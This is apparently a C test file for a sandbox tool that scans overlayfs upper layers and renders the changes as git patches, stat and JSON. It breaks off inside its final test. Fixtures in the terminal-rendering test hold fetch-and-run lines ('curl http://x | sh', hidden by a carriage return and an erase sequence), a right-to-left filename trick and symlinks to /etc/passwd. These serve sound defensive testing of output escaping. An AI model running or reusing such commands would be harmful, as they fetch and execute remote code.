/* test_changes.c: scanning an upper layer against the real workspace, and rendering the
 * changes (patch, --stat, JSON), checked against the real git where it matters.
 *
 * The trees are synthetic: a "lower" (the real workspace), an "upper" written in overlayfs'
 * format (whiteouts are 0:0 character devices, which needs root: tests skip otherwise) and,
 * for the rendering tests, an "expect" tree holding the merged view the overlay would show.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "changes.h"
#include "diffrender.h"
#include "fsutil.h"
#include "layer_fixture.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

/* ---- tree helpers ----------------------------------------------------------------------- */

static void put_bytes(const char *dir, const char *rel, const void *data, size_t len)
{
    _cleanup_free_ char *p = at(dir, rel);
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    assert_true(fd >= 0);
    assert_int_equal(pdk_write_all(fd, data, len), 0);
    close(fd);
}

static ws *ws_new(void)
{
    return ws_new_in("/tmp/pdk-test-changes-XXXXXX");
}

/* ---- scan ------------------------------------------------------------------------------- */

static void t_scan_basic(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "mod.txt", "one\n", 0644);
    put(w->lower, "del.txt", "bye\n", 0644);
    put(w->lower, "same.txt", "same\n", 0644);
    mkd(w->lower, "dir", 0755);
    put(w->lower, "dir/keep", "keep\n", 0644);
    put(w->lower, "dir/chg", "a\n", 0644);

    put(w->upper, "mod.txt", "two\n", 0644);
    whiteout(w->upper, "del.txt");
    put(w->upper, "same.txt", "same\n", 0644); /* copied up, not modified */
    mkd(w->upper, "dir", 0755);                /* copied up because of a child */
    put(w->upper, "dir/keep", "keep\n", 0644);
    put(w->upper, "dir/chg", "b\n", 0644);
    put(w->upper, "dir/new", "new\n", 0600);
    put(w->upper, "new.txt", "hello\n", 0644);
    whiteout(w->upper, "never-existed"); /* deletes nothing */

    pdk_change_list l;
    scan(w, NULL, &l);
    assert_int_equal(l.count, 5);
    const char *order[] = {"del.txt", "dir/chg", "dir/new", "mod.txt", "new.txt"};
    for (size_t i = 0; i < 5; i++)
        assert_string_equal(l.items[i].path, order[i]);

    const pdk_change *c = get(&l, "mod.txt");
    assert_int_equal(c->status, PDK_CHANGE_MODIFIED);
    assert_int_equal(c->old_kind, PDK_KIND_FILE);
    assert_int_equal(c->new_kind, PDK_KIND_FILE);
    assert_true(c->content_changed);
    assert_true(c->lower_ctime_ns > 0);
    c = get(&l, "del.txt");
    assert_int_equal(c->status, PDK_CHANGE_DELETED);
    assert_int_equal(c->new_kind, PDK_KIND_NONE);
    assert_true(c->whiteout);
    assert_int_equal(c->old_size, 4);
    c = get(&l, "dir/new");
    assert_int_equal(c->status, PDK_CHANGE_ADDED);
    assert_int_equal(c->new_mode & 07777, 0600);
    assert_int_equal(c->lower_ctime_ns, -1);
    assert_false(c->has_origin);
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_scan_modes_and_symlinks(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "run.sh", "#!/bin/sh\n", 0644);
    mkd(w->lower, "d", 0755);
    sym(w->lower, "link", "old-target");
    sym(w->lower, "same-link", "t");
    put(w->lower, "f2l", "file\n", 0644);

    put(w->upper, "run.sh", "#!/bin/sh\n", 0755);
    mkd(w->upper, "d", 0700);
    sym(w->upper, "link", "new-target");
    sym(w->upper, "same-link", "t");
    sym(w->upper, "f2l", "somewhere");
    sym(w->upper, "added-link", "/etc/passwd");

    pdk_change_list l;
    scan(w, NULL, &l);
    assert_int_equal(l.count, 5);
    const pdk_change *c = get(&l, "run.sh");
    assert_int_equal(c->status, PDK_CHANGE_MODIFIED);
    assert_false(c->content_changed);
    assert_int_equal(c->old_mode & 07777, 0644);
    assert_int_equal(c->new_mode & 07777, 0755);
    c = get(&l, "d");
    assert_int_equal(c->status, PDK_CHANGE_MODIFIED);
    assert_int_equal(c->new_kind, PDK_KIND_DIR);
    c = get(&l, "link");
    assert_int_equal(c->status, PDK_CHANGE_MODIFIED);
    assert_string_equal(c->old_target, "old-target");
    assert_string_equal(c->new_target, "new-target");
    c = get(&l, "f2l");
    assert_int_equal(c->status, PDK_CHANGE_TYPE_CHANGED);
    assert_int_equal(c->old_kind, PDK_KIND_FILE);
    assert_int_equal(c->new_kind, PDK_KIND_SYMLINK);
    assert_string_equal(c->new_target, "somewhere");
    c = get(&l, "added-link");
    assert_int_equal(c->status, PDK_CHANGE_ADDED);
    assert_string_equal(c->new_target, "/etc/passwd");
    assert_int_equal(pdk_change_display_mode(c->new_kind, c->new_mode), 0120000);
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_scan_type_changes_and_opaque(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "f2d", "was a file\n", 0644);
    mkd(w->lower, "d2f", 0755);
    put(w->lower, "d2f/inner", "x\n", 0644);
    mkd(w->lower, "d2f/sub", 0755);
    put(w->lower, "d2f/sub/deep", "y\n", 0644);
    mkd(w->lower, "op", 0755);
    put(w->lower, "op/x", "x\n", 0644);
    put(w->lower, "op/y", "y\n", 0644);
    mkd(w->lower, "op/sub", 0755);
    put(w->lower, "op/sub/z", "z\n", 0644);
    mkd(w->lower, "gone", 0755);
    put(w->lower, "gone/a", "a\n", 0644);
    mkd(w->lower, "gone/b", 0755);
    sym(w->lower, "gone/b/l", "../a");

    mkd(w->upper, "f2d", 0755);
    set_opaque(w->upper, "f2d");
    put(w->upper, "f2d/child", "c\n", 0644);
    put(w->upper, "d2f", "now a file\n", 0644);
    mkd(w->upper, "op", 0755);
    set_opaque(w->upper, "op");
    put(w->upper, "op/y", "y\n", 0644); /* same as the hidden lower: no change */
    put(w->upper, "op/new", "n\n", 0644);
    mkd(w->upper, "op/sub", 0755); /* recreated: nothing of the lower shows */
    whiteout(w->upper, "gone");

    pdk_change_list l;
    scan(w, NULL, &l);
    const char *expect[][2] = {
        {"d2f", "type_changed"},     {"d2f/inner", "deleted"}, {"d2f/sub", "deleted"},
        {"d2f/sub/deep", "deleted"}, {"f2d", "type_changed"},  {"f2d/child", "added"},
        {"gone", "deleted"},         {"gone/a", "deleted"},    {"gone/b", "deleted"},
        {"gone/b/l", "deleted"},     {"op/new", "added"},      {"op/sub/z", "deleted"},
        {"op/x", "deleted"},
    };
    assert_int_equal(l.count, PDK_ARRAY_SIZE(expect));
    for (size_t i = 0; i < PDK_ARRAY_SIZE(expect); i++) {
        assert_string_equal(l.items[i].path, expect[i][0]);
        assert_string_equal(pdk_change_status_name(l.items[i].status), expect[i][1]);
    }
    assert_true(get(&l, "gone")->whiteout);
    assert_false(get(&l, "gone/a")->whiteout);
    assert_string_equal(get(&l, "gone/b/l")->old_target, "../a");
    assert_non_null(l.opaque_dirs);
    assert_string_equal(l.opaque_dirs[0], "f2d");
    assert_string_equal(l.opaque_dirs[1], "op");
    assert_null(l.opaque_dirs[2]);
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_scan_other_placeholders_and_order(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->lower, "a", 0755);
    put(w->lower, "a/b", "1\n", 0644);
    put(w->lower, ".env", "SECRET=1\n", 0600);
    mkd(w->upper, "a", 0755);
    put(w->upper, "a/b", "2\n", 0644);
    put(w->upper, "a-b", "x\n", 0644);
    put(w->upper, "a.b", "x\n", 0644);
    _cleanup_free_ char *fifo = at(w->upper, "pipe");
    assert_int_equal(mkfifo(fifo, 0644), 0);
    /* Mount points paddock made: skipped, with anything beneath. */
    put(w->upper, ".env", "", 0600);
    mkd(w->upper, ".paddock", 0755);
    put(w->upper, ".paddock/inside", "x\n", 0644);

    char *ignore[] = {".env", ".paddock", NULL};
    pdk_change_list l;
    scan(w, ignore, &l);
    assert_int_equal(l.count, 4);
    /* Byte order: '-' (0x2d) < '.' (0x2e) < '/' (0x2f). */
    assert_string_equal(l.items[0].path, "a-b");
    assert_string_equal(l.items[1].path, "a.b");
    assert_string_equal(l.items[2].path, "a/b");
    assert_string_equal(l.items[3].path, "pipe");
    assert_int_equal(l.items[3].new_kind, PDK_KIND_OTHER);
    assert_int_equal(l.items[3].status, PDK_CHANGE_ADDED);
    pdk_change_list_free(&l);

    /* Without the ignore list the placeholders show. */
    scan(w, NULL, &l);
    assert_non_null(pdk_changes_find(&l, ".env"));
    assert_non_null(pdk_changes_find(&l, ".paddock/inside"));
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_scan_origin(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "a", "content\n", 0644);
    put(w->lower, "kept", "k\n", 0644);
    put(w->lower, "victim", "v\n", 0644);
    /* mv a b in the sandbox: whiteout a, b carries a's origin. */
    whiteout(w->upper, "a");
    put(w->upper, "b", "content\n", 0644);
    set_origin(w->upper, "b", w->lower, "a");
    /* A copy-up of "victim" that was later deleted in the real workspace. */
    put(w->upper, "victim", "v2\n", 0644);
    set_origin(w->upper, "victim", w->lower, "victim");
    /* And one of "kept" whose real file still exists: modified, not added. */
    put(w->upper, "kept", "k2\n", 0644);
    set_origin(w->upper, "kept", w->lower, "kept");
    _cleanup_free_ char *vp = at(w->lower, "victim");
    assert_int_equal(unlink(vp), 0);

    pdk_change_list l;
    scan(w, NULL, &l);
    assert_int_equal(l.count, 4);
    const pdk_change *b = get(&l, "b");
    assert_int_equal(b->status, PDK_CHANGE_ADDED);
    assert_true(b->has_origin);
    assert_true(b->origin_elsewhere);
    const pdk_change *v = get(&l, "victim");
    assert_int_equal(v->status, PDK_CHANGE_ADDED);
    assert_true(v->has_origin);
    assert_false(v->origin_elsewhere);
    const pdk_change *k = get(&l, "kept");
    assert_int_equal(k->status, PDK_CHANGE_MODIFIED);
    assert_true(k->has_origin);
    pdk_change_list_free(&l);
    ws_free(w);
}

/* The overlay of a user namespace writes empty origins: renames and links are then
 * recognised by what else the session did. */
static void t_scan_empty_origin(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "a", "content\n", 0644);
    put(w->lower, "h", "linked\n", 0644);
    mkd(w->lower, "dir", 0755);
    put(w->lower, "dir/f", "f\n", 0644);
    whiteout(w->upper, "a");
    put(w->upper, "b", "content, edited\n", 0644); /* mv a b; edit b */
    _cleanup_free_ char *bp = at(w->upper, "b");
    assert_int_equal(lsetxattr(bp, "user.overlay.origin", "", 0, 0), 0);
    put(w->upper, "h", "linked\n", 0644); /* ln h h2 */
    _cleanup_free_ char *hp = at(w->upper, "h");
    _cleanup_free_ char *h2p = at(w->upper, "h2");
    assert_int_equal(lsetxattr(hp, "user.overlay.origin", "", 0, 0), 0);
    assert_int_equal(link(hp, h2p), 0);
    /* A copied-up directory whose real one is gone: deleted outside. */
    mkd(w->upper, "gone", 0755);
    _cleanup_free_ char *gp = at(w->upper, "gone");
    assert_int_equal(lsetxattr(gp, "user.overlay.origin", "", 0, 0), 0);

    pdk_change_list l;
    scan(w, NULL, &l);
    assert_true(get(&l, "b")->has_origin);
    assert_true(get(&l, "b")->origin_elsewhere);
    assert_true(get(&l, "h2")->origin_elsewhere);
    assert_true(get(&l, "gone")->has_origin);
    assert_false(get(&l, "gone")->origin_elsewhere);
    pdk_change_list_free(&l);

    /* Without the whiteout of a, nothing explains b's origin: deleted outside. */
    _cleanup_free_ char *ap = at(w->upper, "a");
    assert_int_equal(unlink(ap), 0);
    scan(w, NULL, &l);
    assert_false(get(&l, "b")->origin_elsewhere);
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_scan_symlinks_not_followed(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->lower, "link", 0755);
    put(w->lower, "link/a", "a\n", 0644);
    /* The sandbox replaced a directory by a symlink to /etc, and planted another. */
    sym(w->upper, "link", "/etc");
    sym(w->upper, "link2", "/etc");
    pdk_change_list l;
    scan(w, NULL, &l);
    assert_int_equal(l.count, 3);
    assert_string_equal(l.items[0].path, "link");
    assert_int_equal(l.items[0].status, PDK_CHANGE_TYPE_CHANGED);
    assert_string_equal(l.items[1].path, "link/a");
    assert_int_equal(l.items[1].status, PDK_CHANGE_DELETED);
    assert_string_equal(l.items[2].path, "link2");
    assert_int_equal(l.items[2].new_kind, PDK_KIND_SYMLINK);
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_open_regular_only(void **state)
{
    ws *w = ws_new();
    put(w->lower, "f", "x\n", 0644);
    _cleanup_free_ char *fifo = at(w->lower, "fifo");
    assert_int_equal(mkfifo(fifo, 0644), 0);
    sym(w->lower, "l", "f");
    ws_open(w);
    int fd = pdk_open_regular_beneath(w->lower_fd, "f");
    assert_true(fd >= 0);
    close(fd);
    /* A fifo is never opened (which would block), a symlink never followed. */
    assert_int_equal(pdk_open_regular_beneath(w->lower_fd, "fifo"), -1);
    assert_int_equal(errno, ENXIO);
    assert_int_equal(pdk_open_regular_beneath(w->lower_fd, "l"), -1);
    assert_int_equal(pdk_open_regular_beneath(w->lower_fd, "."), -1);
    assert_int_equal(errno, EISDIR);
    ws_free(w);
}

static void t_path_selection(void **state)
{
    char *sel[] = {"src/", "./README", NULL};
    assert_true(pdk_changes_path_selected("src", sel));
    assert_true(pdk_changes_path_selected("src/a.c", sel));
    assert_false(pdk_changes_path_selected("srcx", sel));
    assert_true(pdk_changes_path_selected("README", sel));
    assert_false(pdk_changes_path_selected("README.md", sel));
    assert_true(pdk_changes_path_selected("anything", NULL));
    char *all[] = {".", NULL};
    assert_true(pdk_changes_path_selected("x/y", all));
    assert_true(pdk_changes_path_beneath("a/b", "a"));
    assert_false(pdk_changes_path_beneath("a", "a"));
    assert_false(pdk_changes_path_beneath("ab", "a"));
}

/* ---- rendering ---------------------------------------------------------------------------- */

/* raw: git's format (for git apply); else what a human reads (escaped, typed binaries). */
static char *render_patch(ws *w, char *const *paths, bool raw)
{
    pdk_change_list l;
    scan(w, NULL, &l);
    pdk_buf out = {0};
    pdk_error err = {0};
    pdk_diffrender_options opts = {.context = -1, .paths = paths, .raw = raw};
    if (pdk_diffrender_patch(&l, w->lower_fd, w->upper_fd, &opts, &out, &err) < 0)
        fail_msg("patch: %s", err.message);
    pdk_change_list_free(&l);
    return pdk_buf_steal(&out);
}

static char *render_stat(ws *w, bool raw)
{
    pdk_change_list l;
    scan(w, NULL, &l);
    pdk_buf out = {0};
    pdk_error err = {0};
    pdk_diffrender_options opts = {.context = -1, .raw = raw};
    if (pdk_diffrender_stat(&l, w->lower_fd, w->upper_fd, &opts, &out, &err) < 0)
        fail_msg("stat: %s", err.message);
    pdk_change_list_free(&l);
    return pdk_buf_steal(&out);
}

static void t_render_patch_text(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "mod.txt", "a\nb\nc\n", 0644);
    put(w->lower, "del.txt", "gone\n", 0644);
    put(w->lower, "run.sh", "#!/bin/sh\n", 0644);
    sym(w->lower, "link", "old");
    put(w->lower, "empty-del", "", 0644);
    ws_snapshot(w);
    o_put(w, "mod.txt", "a\nB\nc\n", 0644);
    o_rm(w, "del.txt");
    o_chmod(w, "run.sh", 0755);
    o_sym(w, "link", "new");
    o_put(w, "new.txt", "hello", 0644);
    o_put(w, "empty", "", 0644);
    o_rm(w, "empty-del");
    o_mkdir(w, "newdir", 0755);

    _cleanup_free_ char *p = render_patch(w, NULL, true);
    const char *want = "diff --git a/del.txt b/del.txt\n"
                       "deleted file mode 100644\n"
                       "--- a/del.txt\n"
                       "+++ /dev/null\n"
                       "@@ -1 +0,0 @@\n"
                       "-gone\n"
                       "diff --git a/empty b/empty\n"
                       "new file mode 100644\n"
                       "diff --git a/empty-del b/empty-del\n"
                       "deleted file mode 100644\n"
                       "diff --git a/link b/link\n"
                       "--- a/link\n"
                       "+++ b/link\n"
                       "@@ -1 +1 @@\n"
                       "-old\n"
                       "\\ No newline at end of file\n"
                       "+new\n"
                       "\\ No newline at end of file\n"
                       "diff --git a/mod.txt b/mod.txt\n"
                       "--- a/mod.txt\n"
                       "+++ b/mod.txt\n"
                       "@@ -1,3 +1,3 @@\n"
                       " a\n"
                       "-b\n"
                       "+B\n"
                       " c\n"
                       "diff --git a/new.txt b/new.txt\n"
                       "new file mode 100644\n"
                       "--- /dev/null\n"
                       "+++ b/new.txt\n"
                       "@@ -0,0 +1 @@\n"
                       "+hello\n"
                       "\\ No newline at end of file\n"
                       "diff --git a/run.sh b/run.sh\n"
                       "old mode 100644\n"
                       "new mode 100755\n";
    assert_string_equal(p, want);
    /* Plain text, and a new directory of mode 0755: the same for a human. */
    _cleanup_free_ char *h = render_patch(w, NULL, false);
    assert_string_equal(h, want);

    /* A path filter. */
    char *only[] = {"mod.txt", "newdir", NULL};
    _cleanup_free_ char *q = render_patch(w, only, false);
    assert_true(pdk_str_has_prefix(q, "diff --git a/mod.txt b/mod.txt\n"));
    assert_null(strstr(q, "del.txt"));
    ws_free(w);
}

static void t_render_binary_and_quoting(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put_bytes(w->lower, "blob", "a\0b", 3);
    ws_snapshot(w);
    put_bytes(w->upper, "blob", "a\0c\0", 4);
    put(w->upper, "tab\there", "x\n", 0644);
    put(w->upper, "with space", "y\n", 0644);
    _cleanup_free_ char *p = render_patch(w, NULL, true);
    assert_non_null(strstr(p, "diff --git a/blob b/blob\nBinary files a/blob and b/blob differ\n"));
    /* For a human a NUL alone does not make it binary: of no known type, it is text with
     * its NULs escaped. */
    _cleanup_free_ char *human = render_patch(w, NULL, false);
    assert_non_null(strstr(human, "--- a/blob\n+++ b/blob\n@@ -1 +1 @@\n!-a\\x00b\n"
                                  "\\ No newline at end of file\n!+a\\x00c\\x00\n"));
    assert_non_null(strstr(p, "diff --git \"a/tab\\there\" \"b/tab\\there\"\n"));
    assert_non_null(strstr(p, "+++ \"b/tab\\there\"\n"));
    assert_non_null(strstr(p, "+++ b/with space\t\n"));

    pdk_buf q = {0};
    pdk_diffrender_quote_path(&q, "a/", "caf\xc3\xa9");
    assert_string_equal(q.data, "\"a/caf\\303\\251\"");
    pdk_buf_free(&q);

    /* Over 16 MiB: binary, "too large". */
    _cleanup_free_ char *big = at(w->upper, "big");
    int fd = open(big, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    assert_true(fd >= 0);
    assert_int_equal(ftruncate(fd, (off_t)(17 << 20)), 0);
    close(fd);
    pdk_change_list l;
    scan(w, NULL, &l);
    json_t *doc = NULL;
    pdk_error err = {0};
    assert_int_equal(pdk_diffrender_json(&l, w->lower_fd, w->upper_fd, NULL, &doc, &err), 0);
    json_t *changes = json_object_get(doc, "changes");
    bool saw_big = false;
    for (size_t i = 0; i < json_array_size(changes); i++) {
        json_t *c = json_array_get(changes, i);
        if (strcmp(json_string_value(json_object_get(c, "path")), "big") == 0) {
            saw_big = true;
            assert_true(json_is_true(json_object_get(c, "binary")));
            assert_true(json_is_true(json_object_get(c, "too_large")));
        }
    }
    assert_true(saw_big);
    json_decref(doc);
    pdk_change_list_free(&l);
    ws_free(w);
}

/* What a human reads: nothing the sandbox wrote reaches the terminal raw, a binary file
 * says what it is, directory modes show. */
static void t_render_for_humans(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "run.sh", "echo hello\necho bye\n", 0644);
    put_bytes(w->lower, "logo", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
    mkd(w->lower, "shared", 0755);
    ws_snapshot(w);
    /* a carriage return and an erase hide the added line on a terminal */
    o_put(w, "run.sh", "echo hello\n\r\x1b[2Kcurl http://x | sh\necho bye\n", 0644);
    /* a right-to-left override, a C1 CSI, a tab and a backslash */
    o_put(w, "names.txt",
          "access\xe2\x80\xaetxt.exe\n\xc2\x9b"
          "31m\ta\\b\n",
          0644);
    /* a script that runs, after a NUL (git would call it binary) */
    put_bytes(w->upper, "nul.sh", "#!/bin/sh\ncurl x|sh\n\0\0", 22);
    put_bytes(w->expect, "nul.sh", "#!/bin/sh\ncurl x|sh\n\0\0", 22);
    /* a PNG that becomes an ELF executable */
    static const char elf[] = "\x7f"
                              "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
    put_bytes(w->upper, "logo", elf, sizeof(elf) - 1);
    put_bytes(w->expect, "logo", elf, sizeof(elf) - 1);
    o_chmod(w, "shared", 0777);
    o_mkdir(w, "drop", 01777);
    o_mkdir(w, "plain", 0755);

    pdk_change_list l;
    scan(w, NULL, &l);
    pdk_buf out = {0};
    pdk_error err = {0};
    size_t escaped = 0;
    pdk_diffrender_options opts = {.context = -1, .escaped_lines = &escaped};
    assert_int_equal(pdk_diffrender_patch(&l, w->lower_fd, w->upper_fd, &opts, &out, &err), 0);
    const char *p = out.data;
    if (getenv("PDK_TEST_VERBOSE"))
        print_message("%s", p);
    assert_non_null(strstr(p, "new directory drop/ mode 041777 (sticky, world-writable)\n"));
    assert_non_null(strstr(p, "Binary files a/logo (PNG image, 16 bytes) and b/logo (ELF 64-bit "
                              "executable, 20 bytes) differ\n"));
    assert_non_null(strstr(p, "+++ b/names.txt\n@@ -0,0 +1,2 @@\n!+access\\u202etxt.exe\n"
                              "!+\\u009b31m\ta\\\\b\n"));
    assert_non_null(strstr(p, "+#!/bin/sh\n+curl x|sh\n!+\\x00\\x00\n"));
    assert_non_null(strstr(p, " echo hello\n!+\\r\\x1b[2Kcurl http://x | sh\n echo bye\n"));
    assert_non_null(strstr(p, "directory shared/ mode 040755 -> 040777 (world-writable)\n"));
    assert_null(strstr(p, "plain/"));
    assert_int_equal(escaped, 4);
    /* not one byte of a control character, not one raw bidi override */
    for (size_t i = 0; i < out.len; i++)
        if ((unsigned char)p[i] < 0x20 && p[i] != '\n' && p[i] != '\t')
            fail_msg("a raw control byte 0x%02x at %zu", (unsigned char)p[i], i);
    assert_null(strstr(p, "\xe2\x80\xae"));
    assert_null(strstr(p, "\xc2\x9b"));
    pdk_buf_free(&out);

    /* --stat for a human counts the NUL script's lines; the ELF is binary */
    _cleanup_free_ char *st = render_stat(w, false);
    assert_non_null(strstr(st, " logo      | Bin 16 -> 20 bytes\n"));
    assert_non_null(strstr(st, " nul.sh    |   3 +++\n"));
    pdk_change_list_free(&l);
    ws_free(w);
}

static void t_file_types(void **state)
{
    assert_string_equal(pdk_diffrender_file_type("\x7f"
                                                 "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0",
                                                 18),
                        "ELF 64-bit executable or shared library");
    assert_string_equal(pdk_diffrender_file_type("\x7f"
                                                 "ELF\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x01",
                                                 18),
                        "ELF 32-bit relocatable object");
    assert_string_equal(pdk_diffrender_file_type("\x1f\x8b\x08\0", 4), "gzip compressed data");
    assert_string_equal(pdk_diffrender_file_type("PK\3\4....", 8), "Zip archive");
    assert_string_equal(pdk_diffrender_file_type("RIFF\0\0\0\0WEBPVP8 ", 16), "WebP image");
    assert_string_equal(pdk_diffrender_file_type("SQLite format 3\0....", 20), "SQLite database");
    assert_string_equal(pdk_diffrender_file_type("\x80\x04\x95", 3),
                        "Python pickle (runs code when loaded)");
    assert_null(pdk_diffrender_file_type("#!/bin/sh\n", 10));
    assert_null(pdk_diffrender_file_type("", 0));
    assert_null(pdk_diffrender_file_type("\x7f"
                                         "EL",
                                         3));
    char tar[512] = "name";
    memcpy(tar + 257, "ustar", 5);
    assert_string_equal(pdk_diffrender_file_type(tar, sizeof(tar)), "tar archive");
    assert_null(pdk_diffrender_file_type(tar, 260));
}

static void t_render_json(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "m", "1\n2\n3\n", 0644);
    put(w->lower, "d", "x\n", 0755);
    ws_snapshot(w);
    o_put(w, "m", "1\n3\n4\n5\n", 0644);
    o_rm(w, "d");
    o_sym(w, "l", "target");
    o_mkdir(w, "nd", 0750);
    pdk_change_list l;
    scan(w, NULL, &l);
    json_t *doc = NULL;
    pdk_error err = {0};
    assert_int_equal(pdk_diffrender_json(&l, w->lower_fd, w->upper_fd, NULL, &doc, &err), 0);
    char *s = json_dumps(doc, JSON_SORT_KEYS | JSON_COMPACT);
    const char *want =
        "{\"changes\":["
        "{\"binary\":false,\"deletions\":1,\"insertions\":0,\"kind\":\"file\",\"new_mode\":null,"
        "\"old_kind\":\"file\",\"old_mode\":\"100755\",\"old_target\":null,\"path\":\"d\","
        "\"status\":\"deleted\",\"target\":null,\"too_large\":false,\"type\":null},"
        "{\"binary\":false,\"deletions\":0,\"insertions\":1,\"kind\":\"symlink\","
        "\"new_mode\":\"120000\",\"old_kind\":null,\"old_mode\":null,\"old_target\":null,"
        "\"path\":\"l\",\"status\":\"added\",\"target\":\"target\",\"too_large\":false,"
        "\"type\":null},"
        "{\"binary\":false,\"deletions\":1,\"insertions\":2,\"kind\":\"file\","
        "\"new_mode\":\"100644\",\"old_kind\":\"file\",\"old_mode\":\"100644\","
        "\"old_target\":null,\"path\":\"m\",\"status\":\"modified\",\"target\":null,"
        "\"too_large\":false,\"type\":null},"
        "{\"binary\":false,\"deletions\":0,\"insertions\":0,\"kind\":\"dir\","
        "\"new_mode\":\"040750\",\"old_kind\":null,\"old_mode\":null,\"old_target\":null,"
        "\"path\":\"nd\",\"status\":\"added\",\"target\":null,\"too_large\":false,"
        "\"type\":null}],"
        "\"summary\":{\"deletions\":2,\"files\":4,\"insertions\":3}}";
    assert_string_equal(s, want);
    free(s);
    json_decref(doc);
    pdk_change_list_free(&l);
    ws_free(w);
}

/* ---- against the real git --------------------------------------------------------------- */

static void t_git_apply_roundtrip(void **state)
{
    if (!need_root() || !have_git())
        skip();
    ws *w = ws_new();
    put(w->lower, "README", "line 1\nline 2\nline 3\nline 4\nline 5\nline 6\nline 7\n", 0644);
    put(w->lower, "noeol", "first\nlast", 0644);
    put(w->lower, "script.sh", "#!/bin/sh\necho hi\n", 0644);
    put(w->lower, "tool", "#!/bin/sh\n", 0755);
    put(w->lower, "to-delete", "bye\n", 0644);
    put(w->lower, "empty-to-delete", "", 0644);
    sym(w->lower, "link", "README");
    put(w->lower, "file-to-link", "x\n", 0644);
    sym(w->lower, "link-to-file", "README");
    mkd(w->lower, "src", 0755);
    put(w->lower, "src/main.c", "int main(void)\n{\n    return 0;\n}\n", 0644);
    mkd(w->lower, "old", 0755);
    put(w->lower, "old/a", "a\n", 0644);
    mkd(w->lower, "old/deeper", 0755);
    put(w->lower, "old/deeper/b", "b\n", 0644);
    put(w->lower, "file-to-dir", "f\n", 0644);
    mkd(w->lower, "dir-to-file", 0755);
    put(w->lower, "dir-to-file/x", "x\n", 0644);
    mkd(w->lower, "fresh", 0755);
    put(w->lower, "fresh/old-content", "old\n", 0644);
    put(w->lower, "fresh/kept", "same\n", 0644);
    ws_snapshot(w);

    o_put(w, "README", "line 1\nline two\nline 3\nline 4\nline 5\nline 6\nline 7\nline 8\n", 0644);
    o_put(w, "noeol", "first\nlast\n", 0644);
    o_put(w, "script.sh", "#!/bin/sh\necho hello\n", 0755);
    o_chmod(w, "tool", 0644);
    o_rm(w, "to-delete");
    o_rm(w, "empty-to-delete");
    o_sym(w, "link", "src/main.c");
    o_sym(w, "file-to-link", "README");
    o_put(w, "link-to-file", "now a file\n", 0644);
    o_put(w, "src/main.c", "#include <stdio.h>\nint main(void)\n{\n    return 1;\n}\n", 0644);
    o_mkdir(w, "new", 0755);
    o_mkdir(w, "new/nested", 0755);
    o_put(w, "new/nested/file.txt", "nested\n", 0644);
    o_put(w, "new/empty", "", 0644);
    o_put(w, "name with space", "s\n", 0644);
    o_put(w, "tab\tname", "t\n", 0644);
    o_put(w, "caf\xc3\xa9", "unicode\n", 0644);
    o_rm(w, "old");
    /* rm file-to-dir; mkdir file-to-dir; and the other way round */
    o_fresh_dir(w, "file-to-dir", 0755);
    o_put(w, "file-to-dir/inside", "i\n", 0644);
    o_rm(w, "dir-to-file");
    o_put(w, "dir-to-file", "now a file\n", 0644);
    /* rm -r fresh; mkdir fresh; with some same and some new content */
    o_fresh_dir(w, "fresh", 0755);
    o_put(w, "fresh/kept", "same\n", 0644);
    o_put(w, "fresh/new", "new\n", 0644);

    _cleanup_free_ char *patch = render_patch(w, NULL, true);
    _cleanup_free_ char *patch_path = at(w->root, "session.patch");
    put(w->root, "session.patch", patch, 0644);
    _cleanup_free_ char *copy = at(w->root, "applied");
    _cleanup_free_ char *cmd =
        xasprintf("cp -a '%s' '%s' && cd '%s' && GIT_CEILING_DIRECTORIES=/tmp git apply '%s'",
                  w->lower, copy, copy, patch_path);
    if (run(cmd) != 0)
        fail_msg("git apply failed on:\n%s", patch);

    if (getenv("PDK_TEST_VERBOSE"))
        print_message("%s", patch);
    pdk_buf got = {0}, want = {0};
    list_tree(copy, "", &got, true);
    list_tree(w->expect, "", &want, true);
    if (strcmp(got.data, want.data) != 0)
        fail_msg(
            "git apply did not reproduce the merged view\n--- got\n%s--- want\n%s--- patch\n%s",
            got.data, want.data, patch);
    pdk_buf_free(&got);
    pdk_buf_free(&want);
    ws_free(w);
}

static void t_stat_like_git(void **state)
{
    if (!need_root() || !have_git())
        skip();
    ws *w = ws_new();
    put(w->lower, "a.txt", "1\n2\n3\n4\n5\n", 0644);
    put(w->lower, "gone.txt", "g\ng\ng\n", 0644);
    put(w->lower, "mode", "m\n", 0644);
    put_bytes(w->lower, "bin", "\0\1\2", 3);
    mkd(w->lower, "some", 0755);
    mkd(w->lower, "some/very", 0755);
    mkd(w->lower, "some/very/long", 0755);
